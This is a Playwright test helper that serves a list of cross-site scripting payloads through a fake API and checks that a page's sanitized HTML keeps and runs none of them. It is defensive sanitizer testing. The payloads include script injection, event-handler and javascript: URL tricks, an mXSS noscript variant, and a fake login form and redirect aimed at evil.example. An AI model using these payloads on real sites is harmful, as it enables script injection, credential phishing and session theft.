import { expect, type Page } from "@playwright/test";

/**
 * Payloads that set `window.__xss` or call alert() if any of them runs. Used as template
 * descriptions and blog bodies served by a fake API; the pages must show none of them.
 */
export const xssPayloads = [
  `<p>Safe <strong>intro</strong> text.</p>`,
  `<img src=x onerror="window.__xss='img'">`,
  `<script>window.__xss='script'</script>`,
  `<svg onload="window.__xss='svg'"><circle r="5"/></svg>`,
  `<a id="js-link" href="javascript:window.__xss='href'">harmless looking link</a>`,
  `<a href="jav&#x09;ascript:alert('encoded')">encoded link</a>`,
  `<iframe srcdoc="<script>parent.__xss='srcdoc'</script>"></iframe>`,
  `<details open ontoggle="window.__xss='details'">d</details>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>`,
  `<p class="fixed inset-0 z-50">class overlay</p>`,
  `<form action="https://evil.example/"><input name="password"><button>Log in</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')">`,
  `<noscript><p title="</noscript><img src=x onerror=alert('mxss')>"></noscript>`,
  `<a href="https://external.example/page">external link</a>`,
].join("");

/** Collects dialogs (alert, confirm) the page opens; none may appear. */
export function watchDialogs(page: Page): string[] {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

/** Nothing from the payloads survived in the sanitized HTML on the page, and nothing ran. */
export async function expectNoXss(page: Page, dialogs: string[], scope = "[data-sanitized-html]") {
  const found = await page.evaluate((selector) => {
    const roots = [...document.querySelectorAll(selector)];
    if (!roots.length) throw new Error(`nothing matches ${selector}`);
    const elements = roots.flatMap((root) => [...root.querySelectorAll("*")]);
    return {
      xss: (window as unknown as { __xss?: string }).__xss ?? null,
      dangerousTags: elements
        .filter((element) =>
          /^(SCRIPT|IFRAME|OBJECT|EMBED|SVG|FORM|META|BASE|STYLE|LINK)$/i.test(element.tagName),
        )
        .map((element) => element.tagName),
      handlers: elements.flatMap((element) =>
        [...element.attributes]
          .filter((attribute) => /^on/i.test(attribute.name))
          .map((attribute) => `${element.tagName}[${attribute.name}]`),
      ),
      styled: elements
        .filter((element) => {
          const position = getComputedStyle(element).position;
          return position === "fixed" || position === "absolute";
        })
        .map((element) => element.tagName),
      badUrls: elements.flatMap((element) =>
        ["href", "src", "action", "data"]
          .map((name) => element.getAttribute(name))
          .filter(
            (value): value is string =>
              value !== null && /^\s*(javascript|data|vbscript):/i.test(value),
          ),
      ),
    };
  }, scope);
  expect(found).toEqual({ xss: null, dangerousTags: [], handlers: [], styled: [], badUrls: [] });
  expect(dialogs).toEqual([]);
}
